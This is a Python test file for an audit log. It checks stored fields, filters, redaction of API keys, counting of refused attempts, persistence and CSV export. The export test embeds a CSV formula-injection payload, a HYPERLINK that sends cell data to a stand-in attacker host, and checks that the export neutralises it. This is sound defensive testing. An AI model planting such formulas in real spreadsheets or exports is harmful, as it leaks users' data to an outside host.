"""The audit log on SQLite and PostgreSQL: what a row holds, filters, no secrets, refused
attempts counted instead of flooding the table, surviving a restart, and its CSV export."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta

import pytest
import sqlalchemy as sa
from sqlalchemy.engine import Engine

import lib.auth.audit
from lib.auth import Actor, AdminAction, AuditFilters, AuditLog, Role, anonymous_actor
from lib.auth.audit_export import audit_csv
from lib.store import create_db_engine, migrate
from lib.store.tables import audit_log

ADMIN = Actor("ann@example.com", Role.ADMIN, "user", "198.51.100.4")
VIEWER = Actor("bob@example.com", Role.VIEWER, "user", "198.51.100.5")
DAY = datetime(2026, 11, 2, 9, 30, tzinfo=UTC)


def test_an_admin_action_is_stored_with_who_when_what_which_account_and_result(
    engine: Engine,
) -> None:
    audit = AuditLog(engine)

    audit.record(
        ADMIN,
        AdminAction.DISCONNECT,
        "succeeded",
        account="Stripe acct_1Dashboard",
        detail="Disconnected Stripe; its credentials were deleted.",
        now=DAY,
    )

    [entry] = audit.entries(AuditFilters(), limit=10)
    assert (entry.occurred_at, entry.actor, entry.role, entry.actor_kind) == (
        DAY,
        "ann@example.com",
        "admin",
        "user",
    )
    assert (entry.action, entry.account, entry.result, entry.attempts) == (
        "credentials.disconnect",
        "Stripe acct_1Dashboard",
        "succeeded",
        1,
    )
    assert entry.client_address == "198.51.100.4"
    assert entry.detail == "Disconnected Stripe; its credentials were deleted."


def test_filters_narrow_by_person_action_result_and_utc_day(engine: Engine) -> None:
    audit = AuditLog(engine)
    audit.record(ADMIN, AdminAction.SYNC_START, "succeeded", now=DAY - timedelta(days=2))
    audit.record(ADMIN, AdminAction.DISCONNECT, "failed", now=DAY)
    audit.record(VIEWER, AdminAction.DISCONNECT, "refused", now=DAY + timedelta(days=1))

    def who(filters: AuditFilters) -> list[tuple[str, str]]:
        return [(e.actor, e.action) for e in audit.entries(filters, limit=10)]

    assert who(AuditFilters(actor="bob@example.com")) == [
        ("bob@example.com", "credentials.disconnect")
    ]
    assert who(AuditFilters(action="credentials.disconnect")) == [
        ("bob@example.com", "credentials.disconnect"),
        ("ann@example.com", "credentials.disconnect"),
    ]
    assert who(AuditFilters(result="refused")) == [("bob@example.com", "credentials.disconnect")]
    assert who(AuditFilters(since=date(2026, 11, 2), until=date(2026, 11, 2))) == [
        ("ann@example.com", "credentials.disconnect")
    ]
    assert who(AuditFilters(until=date(2026, 10, 31))) == [("ann@example.com", "mirror.sync")]
    assert audit.count(AuditFilters(since=date(2026, 11, 1))) == 2
    assert audit.actors() == ["ann@example.com", "bob@example.com"]


def test_no_secret_reaches_the_table_and_long_or_odd_text_is_bounded(engine: Engine) -> None:
    key = "sk_live_51HqLyjWDarjtT1zdp7dcXbUyQabcdefgh4242"
    AuditLog(engine).record(
        ADMIN,
        AdminAction.CONNECT_KEY,
        "failed",
        account="x" * 1000,
        detail=f"Not saved. Stripe said: Invalid API Key provided: {key}\x00\x1b[31m" + "y" * 5000,
    )

    with engine.connect() as connection:
        row = connection.execute(sa.select(audit_log)).mappings().one()
    stored = " ".join(str(value) for value in row.values())
    assert key not in stored and "sk_live_...4242" in stored
    assert "\x00" not in stored and "\x1b" not in stored
    assert len(row["account"]) == 255 and len(row["detail"]) == 1000


def test_repeated_refusals_add_up_on_one_row_per_client_and_hour(engine: Engine) -> None:
    audit = AuditLog(engine)
    stranger = anonymous_actor("203.0.113.7")
    for minute in range(30):
        audit.record(
            stranger, AdminAction.CONNECT_START, "refused", now=DAY + timedelta(minutes=minute)
        )
    audit.record(stranger, AdminAction.CONNECT_START, "refused", now=DAY + timedelta(minutes=90))
    audit.record(anonymous_actor("203.0.113.8"), AdminAction.CONNECT_START, "refused", now=DAY)

    entries = audit.entries(AuditFilters(result="refused"), limit=10)

    assert [(e.client_address, e.attempts) for e in entries] == [
        ("203.0.113.7", 1),
        ("203.0.113.8", 1),
        ("203.0.113.7", 30),
    ]


def test_past_the_hourly_cap_other_refusals_are_counted_on_one_row(
    engine: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(lib.auth.audit, "MAX_REFUSED_ROWS_PER_HOUR", 3)
    audit = AuditLog(engine)
    for client in range(10):
        audit.record(
            anonymous_actor(f"203.0.113.{client}"), AdminAction.CONNECT_START, "refused", now=DAY
        )
    audit.record(ADMIN, AdminAction.DISCONNECT, "succeeded", now=DAY)

    entries = audit.entries(AuditFilters(), limit=20)

    assert len(entries) == 5
    others = [e for e in entries if e.actor.startswith("others")]
    assert [(e.attempts, e.client_address, e.action) for e in others] == [
        (7, None, "credentials.connect_start")
    ]
    assert any(e.result == "succeeded" for e in entries), "admin actions are never folded"


def test_the_log_survives_a_restart(db_url: str) -> None:
    first = create_db_engine(db_url)
    migrate(first)
    AuditLog(first).record(VIEWER, AdminAction.SYNC_START, "refused", now=DAY)
    first.dispose()

    again = create_db_engine(db_url)
    migrate(again)
    [entry] = AuditLog(again).entries(AuditFilters(), limit=10)
    again.dispose()

    assert (entry.actor, entry.action, entry.result) == (
        "bob@example.com",
        "mirror.sync",
        "refused",
    )


def test_the_csv_export_has_every_column_and_no_live_formula(engine: Engine) -> None:
    audit = AuditLog(engine)
    hostile = Actor(
        '=HYPERLINK("https://evil.example/?d="&A1,"x")', Role.VIEWER, "user", "@1.2.3.4"
    )
    audit.record(
        hostile, AdminAction.EVENT_REPLAY, "refused", account="+Stripe", detail="-1+1", now=DAY
    )

    exported = audit_csv(audit.entries(AuditFilters(), limit=10)).decode()

    assert list(csv.DictReader(io.StringIO(exported))) == [
        {
            "occurred_at_utc": "2026-11-02T09:30:00+00:00",
            "actor": '\'=HYPERLINK("https://evil.example/?d="&A1,"x")',
            "role": "viewer",
            "actor_kind": "user",
            "client_address": "'@1.2.3.4",
            "action": "events.replay",
            "account": "'+Stripe",
            "result": "refused",
            "detail": "'-1+1",
            "attempts": "1",
        }
    ]
